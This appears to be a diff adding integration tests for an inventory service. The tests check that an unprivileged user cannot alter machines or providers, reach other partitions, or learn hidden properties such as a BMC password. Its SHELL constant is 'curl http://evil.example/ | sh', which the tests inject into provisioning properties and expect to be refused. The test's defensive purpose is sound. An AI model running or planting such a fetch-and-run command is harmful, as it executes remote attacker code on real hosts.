@@ -1,0 +1,190 @@
+"""What callers of the inventory try with what is not theirs: machines, partitions, and properties that are hidden."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from typing import Any
+
+import grpc
+import pytest
+
+from headgate.config.operator.model import Label
+from headgate.inventory.model import ADMIN, PROVIDER, Caller, Object
+from headgate.inventory.names import Invalid
+from headgate.inventory.wire import inventory_pb2 as v1
+from headgate.inventory.wire import runm_pb2 as runm
+from headgate.services.inventory.draft import Create
+from headgate.services.nodes.finding import MACHINE, Finding
+from headgate.web.inventory.identity import Verifying
+from tests.integration.inventory.served import Client, served
+from tests.integration.inventory.test_matrix import issuer, token
+from tests.unit.inventory.objects import PARTITIONS
+from tests.unit.inventory.world import a_world
+
+SHELL = "curl http://evil.example/ | sh"
+SECRET = "hunter2"
+
+
+@asynccontextmanager
+async def a_site() -> AsyncIterator[tuple[Client, Client]]:
+    """Serve one with a provider and a machine of the project blue: to its operator, and to a member of blue."""
+    async with served(Verifying([issuer()])) as client:
+        root = client.like(token(sub="root", roles=["admin"]), user="root", project="blue", partition="site")
+        for name in ("site", "vault"):
+            await root.SetPartition(partition=v1.Partition(name=name))
+        racks = v1.Object(type="runm.provider", name="racks", properties={"kind": "static", "prepare": "true"})
+        named = v1.Object(type="runm.machine", name="host.example", project="blue", properties={"provider": "racks"})
+        await root.Apply(steps=[v1.Step(create=racks), v1.Step(create=named)])
+        mallory = token(sub="mallory", projects=["blue"], partitions=["site"])
+        yield root, client.like(mallory, user="mallory", project="blue", partition="site")
+
+
+async def refusal(call: Any) -> tuple[str, str]:
+    """Return the status and what is said."""
+    with pytest.raises(grpc.aio.AioRpcError) as refused:
+        if hasattr(call, "__aiter__"):
+            async for _ in call:
+                pass
+        else:
+            await call
+    return refused.value.code().name, refused.value.details() or ""
+
+
+async def everything(client: Client) -> list[str]:
+    """Return all objects, as they are."""
+    found = (await client.Search()).objects
+    return sorted(str(one) for one in found)
+
+
+async def test_only_operators_decide_what_machines_run_and_where_they_are() -> None:
+    async with a_site() as (root, mallory):
+        before = await everything(root)
+        racks = await root.GetObject(type="runm.provider", name="racks")
+        named = await root.GetObject(type="runm.machine", name="host.example")
+        tries: list[v1.Step] = [
+            v1.Step(delete=v1.Removal(uuid=racks.uuid)),
+            v1.Step(update=v1.Patch(uuid=racks.uuid, name="mine")),
+            v1.Step(update=v1.Patch(uuid=racks.uuid, remove_properties=["prepare"])),
+            v1.Step(update=v1.Patch(uuid=named.uuid, name="evil.example")),  # its name is its address
+            v1.Step(update=v1.Patch(uuid=named.uuid, remove_properties=["provider"])),
+        ]
+        for key in ("prepare", "clean", "host-key", "provider", "slot", "ansible_host", "ansible_ssh_common_args"):
+            tries += [v1.Step(update=v1.Patch(uuid=one.uuid, set_properties={key: SHELL})) for one in (racks, named)]
+            tries.append(v1.Step(create=v1.Object(type="runm.machine", name=key, properties={key: SHELL})))
+            tries.append(v1.Step(create=v1.Object(type="runm.image", name=key, properties={key: SHELL})))
+        for project in ("", "blue"):
+            mine = v1.Object(type="runm.provider", name="mine", project=project, properties={"prepare": SHELL})
+            tries.append(v1.Step(create=mine))
+        for one in tries:
+            assert (await refusal(mallory.Apply(steps=[one])))[0] == "PERMISSION_DENIED", one
+            harmless = v1.Step(create=v1.Object(type="runm.image", name="harmless"))
+            assert (await refusal(mallory.Apply(steps=[harmless, one])))[0] == "PERMISSION_DENIED", one
+        made = runm.Object(partition="site", object_type="runm.provider", name="mine")
+        assert (await refusal(mallory.object_create(object=made)))[0] == "PERMISSION_DENIED"
+        assert (await refusal(mallory.object_delete_by_uuids(uuids=[racks.uuid])))[0] == "PERMISSION_DENIED"
+        assert await everything(root) == before
+        note = v1.Patch(uuid=named.uuid, set_properties={"note": "mine"}, add_tags=["fast"])
+        assert (await mallory.Apply(steps=[v1.Step(update=note)])).objects[0].tags == ["fast"]
+
+
+async def test_a_machine_that_another_project_offers_is_given_to_no_build() -> None:
+    """Also one that was put there when anybody could say how it is reached."""
+    async with a_world() as world:
+        root = Caller("root", "lab", PARTITIONS[0], frozenset({ADMIN}))
+        racks = Object(PARTITIONS[0], PROVIDER, "", "6" * 32, "racks", {"kind": "static"})
+        await world.inventory.apply(root, [Create(racks)])
+        for number, project in enumerate(("lab", "evil")):
+            offered = {"provider": "racks", "image": "debian", "ansible_host": f"{project}.example"}
+            machine = Object(PARTITIONS[0], MACHINE, project, f"{number}" * 32, "m", offered)
+            await world.inventory.apply(root, [Create(machine)])
+        finding = Finding(world.inventory)
+        for project, hosts in (("lab", ["lab"]), ("evil", ["evil"]), ("*", ["lab", "evil"])):
+            found = await finding.machines(Label("image=debian", project=project), "", "here")
+            assert sorted(one.object.project for one in found) == sorted(hosts)
+        for label in (Label("image=debian"), Label("image=debian project=evil", project="lab")):
+            with pytest.raises(Invalid, match="project"):
+                await finding.machines(label, "", "here")
+
+
+async def test_a_credential_opens_no_partition_that_it_does_not_name() -> None:
+    async with a_site() as (root, mallory):
+        vault = root.like(partition="vault")
+        kept = (await vault.Apply(steps=[v1.Step(create=v1.Object(type="runm.image", name="kept"))])).objects[0]
+        place = v1.Place(type="runm.image", partition="vault")
+        await root.SetDefinition(place=place, definition=v1.Definition(schema='{"title": "the vault"}'))
+        inside = mallory.like(partition="vault")
+        moved = v1.Object(type="runm.image", name="x", partition="vault")
+        for call in (
+            inside.Search(),
+            inside.GetObject(uuid=kept.uuid),
+            inside.object_find(),
+            mallory.Search(any=[v1.Filter(partitions=["vault"])]),
+            mallory.Search(any=[v1.Filter(partitions=["site", "vault"], uuids=[kept.uuid])]),
+            mallory.Apply(steps=[v1.Step(create=moved)]),
+            mallory.GetDefinition(place=place),
+            mallory.SetDefinition(place=place, definition=v1.Definition(schema="{}")),
+            mallory.provider_definition_get_by_partition(partition_uuid="vault"),
+        ):
+            assert (await refusal(call))[0] == "PERMISSION_DENIED"
+        for uuid in (kept.uuid, "f" * 32):
+            assert (await refusal(mallory.GetObject(uuid=uuid)))[0] == "NOT_FOUND"
+        nowhere = [await refusal(mallory.Search(any=[v1.Filter(partitions=[name])])) for name in ("vault", "vaults")]
+        assert nowhere[0][0] == nowhere[1][0] and nowhere[0][1] == nowhere[1][1].replace("vaults", "vault")
+        for claims in ({"roles": ["admin@site"]}, {"roles": ["operator@site"], "partitions": ["site"]}):
+            local = mallory.like(token(sub="mallory", projects=["blue"], **claims))
+            everywhere = v1.Place(type="runm.image")
+            assert (await refusal(local.like(partition="vault").Search()))[0] == "PERMISSION_DENIED"
+            for call in (
+                local.SetDefinition(place=everywhere, definition=v1.Definition(schema="{}")),
+                local.SetDefinition(place=place, definition=v1.Definition(schema="{}")),
+                local.Search(any=[v1.Filter(partitions=["vault"])]),
+                local.SetType(type=v1.Type(code="x")),
+                local.provider_definition_set(object_definition=runm.ObjectDefinition(schema="{}")),
+            ):
+                assert (await refusal(call))[0] == "PERMISSION_DENIED"
+
+
+async def test_a_hidden_property_is_neither_named_nor_guessed() -> None:
+    """No answer depends on what it holds, or on whether it is there."""
+    async with a_site() as (root, mallory):
+        shape = {"properties": {"bmc_password": {"minLength": 5}, "rack": {}}, "required": ["bmc_password"]}
+        document = {"properties": {"properties": shape}, "dependentRequired": {"bmc_password": ["rack"]}}
+        rules = [
+            v1.Permission(key="bmc_password"),
+            v1.Permission(key="bmc_password", role="admin", read=True, write=True),
+        ]
+        given = v1.Definition(schema=json.dumps(document), permissions=rules)
+        place = v1.Place(type="runm.image")
+        await root.SetDefinition(place=place, definition=given)
+        secret = v1.Object(type="runm.image", name="box", properties={"bmc_password": SECRET, "rack": "1"})
+        (box,) = (await root.Apply(steps=[v1.Step(create=secret)])).objects
+        seen = await mallory.GetDefinition(place=place)
+        assert "bmc" not in str(seen) and "rack" in str(seen)
+        answers = set()
+        for value in (SECRET, "wrong", ""):
+            for patch in (
+                v1.Patch(uuid=box.uuid, set_properties={"bmc_password": value}),
+                v1.Patch(uuid=box.uuid, set_properties={"bmc_password": value, "rack": "2"}),
+                v1.Patch(uuid=box.uuid, remove_properties=["bmc_password"]),
+            ):
+                answers.add(await refusal(mallory.Apply(steps=[v1.Step(update=patch)], validate_only=True)))
+        assert len(answers) == 1, answers
+        for said in (
+            await refusal(mallory.Apply(steps=[v1.Step(delete=v1.Removal(uuid=box.uuid))])),
+            await refusal(mallory.Apply(steps=[v1.Step(create=v1.Object(type="runm.image", name="n"))])),
+            await refusal(mallory.Apply(steps=[v1.Step(update=v1.Patch(uuid=box.uuid, set_properties={"kind": "x"}))])),
+        ):
+            assert "bmc" not in said[1] and SECRET not in said[1], said
+        for wanted in (
+            v1.Filter(require_keys=["bmc_password"]),
+            v1.Filter(any_items=[v1.Item(key="bmc_password", value="h", prefix=True)]),
+        ):
+            assert str(await mallory.Search(any=[wanted], with_count=True)).startswith("revision")
+        shown = [
+            str(await mallory.Search(any=[v1.Filter(forbid_keys=["bmc_password"])])),
+            str(await mallory.History(uuid=box.uuid)),
+            str(await mallory.Search(sort=[v1.Sort(field="properties.bmc_password")])),
+        ]
+        assert all("box" in one and "bmc" not in one and SECRET not in one for one in shown)
